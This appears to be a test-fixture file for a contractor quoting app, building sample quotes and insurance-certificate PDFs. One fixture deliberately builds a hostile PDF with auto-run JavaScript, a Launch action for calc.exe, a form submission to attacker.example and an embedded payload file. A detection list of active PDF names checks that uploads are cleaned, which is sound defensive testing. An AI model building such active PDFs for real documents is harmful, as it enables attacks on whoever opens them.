/**
 * A quote as tests write it: the business's contract facts with a one-page insurance certificate,
 * and a quote's content with two required items and one optional, over the $500 line.
 */
import { createHash } from "node:crypto";
import type { Kysely } from "kysely";
import { PDFArray, PDFDict, PDFDocument, PDFName, PDFStream, PDFString, StandardFonts, type PDFObject } from "pdf-lib";
import type { Database } from "~/infra/schema.server";
import type { CheckedFacts } from "~/quotes/contract-facts-rules";
import { cleanCertificate, saveContractFacts } from "~/quotes/contract-facts.server";
import { formValuesOf, type QuoteContent } from "~/quotes/quote-content";
import { acceptedPdf } from "~/quotes/quote-files.server";
import { chosenOf, sentVersionOf } from "~/quotes/quote-link.server";
import { addDays, dayOf } from "~/time/business-time";

/** A one-page PDF standing in for the insurer's certificate. */
export async function certificatePdf(title = "CERTIFICATE OF LIABILITY INSURANCE (test)"): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([612, 792]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  page.drawText(title, { x: 72, y: 700, size: 14, font });
  return pdf.save();
}

/** Next year's certificate, as the owner uploads it at renewal. */
export const renewedCertificatePdf = () => certificatePdf("CERTIFICATE OF LIABILITY INSURANCE (RENEWED)");

export const FACTS: CheckedFacts = {
  insurerName: "Barnegat Mutual Insurance",
  insurerPhone: "(609) 555-0190",
  consumerAffairsPhone: "(973) 504-6200",
  warranty: "We guarantee our workmanship for two years from completion. Manufacturers' warranties pass to you.",
  payment: { depositPercent: 30, milestones: [{ percent: 40, label: "when the framing is inspected" }] },
};

export async function enterContractFacts(db: Kysely<Database>, now = new Date()): Promise<void> {
  await saveContractFacts(
    db,
    FACTS,
    await cleanCertificate("certificate.pdf", await certificatePdf()),
    { email: "pat@causeway.test", client: null },
    now,
  );
}

/** Two required items ($1,200 + 2.5 × $80 = $1,400) and an optional one ($350.55), 6.625% tax. */
export function deckQuote(now = new Date(), validDays = 30): QuoteContent {
  return {
    items: [
      { description: "Rebuild deck stairs", quantityHundredths: 100, unit: "job", unitCents: 120_000, optional: false },
      {
        description: "Pressure-treated railing",
        quantityHundredths: 250,
        unit: "ft",
        unitCents: 8_000,
        optional: false,
      },
      {
        description: "Composite stair treads",
        quantityHundredths: 100,
        unit: "set",
        unitCents: 35_055,
        optional: true,
      },
    ],
    taxRateMilliPercent: 6_625,
    work: "Remove the storm-damaged stairs and build new ones to code.",
    materials: "Pressure-treated southern yellow pine; galvanized hardware.",
    startDay: addDays(dayOf(now), 14),
    completionDay: addDays(dayOf(now), 21),
    validUntil: addDays(dayOf(now), validDays),
    securityInterest: "",
  };
}

/**
 * A certificate that acts as well as draws, as a hostile or careless insurer's PDF could: a script
 * run on opening, a document-level script, a page action, a link running a script, a launch and a
 * form submission, and an embedded file (in the catalog and as an attachment on the page).
 */
export async function activeCertificatePdf(): Promise<Uint8Array> {
  const pdf = await PDFDocument.create();
  const page = pdf.addPage([612, 792]);
  const font = await pdf.embedFont(StandardFonts.Helvetica);
  page.drawText("CERTIFICATE OF LIABILITY INSURANCE (with actions)", { x: 72, y: 700, size: 14, font });
  const context = pdf.context;
  const script = (code: string) => context.obj({ Type: "Action", S: "JavaScript", JS: PDFString.of(code) });
  const file = context.register(
    context.flateStream("not a certificate", { Type: "EmbeddedFile", Subtype: "text/plain" }),
  );
  const fileSpec = context.register(context.obj({ Type: "Filespec", F: PDFString.of("payload.txt"), EF: { F: file } }));
  pdf.catalog.set(PDFName.of("OpenAction"), context.register(script("app.alert('opened')")));
  pdf.catalog.set(
    PDFName.of("Names"),
    context.obj({
      JavaScript: { Names: [PDFString.of("boot"), context.register(script("app.alert('named')"))] },
      EmbeddedFiles: { Names: [PDFString.of("payload.txt"), fileSpec] },
    }),
  );
  page.node.set(PDFName.of("AA"), context.obj({ O: context.register(script("app.alert('page')")) }));
  const annotation = (action: PDFDict, y: number) =>
    context.register(context.obj({ Type: "Annot", Subtype: "Link", Rect: [72, y, 300, y + 20], A: action }));
  page.node.set(
    PDFName.of("Annots"),
    context.obj([
      annotation(script("app.alert('link')"), 600),
      annotation(context.obj({ S: "Launch", F: PDFString.of("calc.exe") }), 560),
      annotation(context.obj({ S: "SubmitForm", F: { FS: "URL", F: PDFString.of("https://attacker.example/") } }), 520),
      context.register(
        context.obj({ Type: "Annot", Subtype: "FileAttachment", Rect: [72, 480, 92, 500], FS: fileSpec }),
      ),
    ]),
  );
  return pdf.save();
}

/** The names in a PDF that make it act rather than draw, wherever they sit in its objects. */
const ACTIVE_NAMES = new Set([
  "JavaScript",
  "JS",
  "Launch",
  "SubmitForm",
  "ImportData",
  "EmbeddedFile",
  "EmbeddedFiles",
  "FileAttachment",
  "OpenAction",
  "AA",
  "Annots",
  "AcroForm",
  "RichMedia",
]);

/** Which of those names a PDF holds, as a key or a value in any of its objects: none for a clean one. */
export async function activeContentOf(data: Uint8Array): Promise<string[]> {
  const pdf = await PDFDocument.load(data);
  const found = new Set<string>();
  const visit = (object: PDFObject | undefined) => {
    if (object instanceof PDFName) {
      const name = object.decodeText();
      if (ACTIVE_NAMES.has(name)) found.add(name);
    } else if (object instanceof PDFDict) {
      for (const [key, value] of object.entries()) {
        // pdf-lib gives every page it draws on an empty annotation list: nothing in it acts.
        if (key.decodeText() === "Annots" && value instanceof PDFArray && value.size() === 0) continue;
        visit(key);
        visit(value);
      }
    } else if (object instanceof PDFArray) {
      for (let index = 0; index < object.size(); index++) visit(object.get(index));
    } else if (object instanceof PDFStream) visit(object.dict);
  };
  for (const [, object] of pdf.context.enumerateIndirectObjects()) visit(object);
  return [...found].sort();
}

export const sha256 = (data: Uint8Array) => createHash("sha256").update(data).digest("hex");

/** The lead's accepted contract made again, now, from what its version holds, as acceptance made it. */
export async function remadeAcceptedPdf(db: Kysely<Database>, leadId: string): Promise<Uint8Array> {
  const row = await db
    .selectFrom("quote_versions as q")
    .innerJoin("leads as l", "l.id", "q.lead_id")
    .selectAll("q")
    .select(["l.name", "l.email", "l.address", "l.quarantined_at"])
    .where("q.lead_id", "=", leadId)
    .where("q.status", "in", ["accepted", "cancelled"])
    .executeTakeFirstOrThrow();
  const sent = sentVersionOf(row);
  if (!sent) throw new Error("the accepted version has no terms");
  return acceptedPdf(db, sent, chosenOf(row));
}

/** A stored document's bytes. */
export async function storedBytes(db: Kysely<Database>, id: string | null): Promise<Uint8Array> {
  const row = await db
    .selectFrom("stored_documents")
    .select("data")
    .where("id", "=", id ?? "")
    .executeTakeFirstOrThrow();
  return new Uint8Array(row.data);
}

/** The quote editor's form as the desk posts it for `content`, with the button `intent` pressed. */
export function quoteForm(content: QuoteContent, intent: "save" | "send"): URLSearchParams {
  const { items, ...fields } = formValuesOf(content);
  const form = new URLSearchParams({ ...fields, intent });
  items.forEach((item, row) => {
    form.set(`item-${row}-description`, item.description);
    form.set(`item-${row}-quantity`, item.quantity);
    form.set(`item-${row}-unit`, item.unit);
    form.set(`item-${row}-price`, item.price);
    if (item.optional) form.set(`item-${row}-optional`, "yes");
  });
  return form;
}
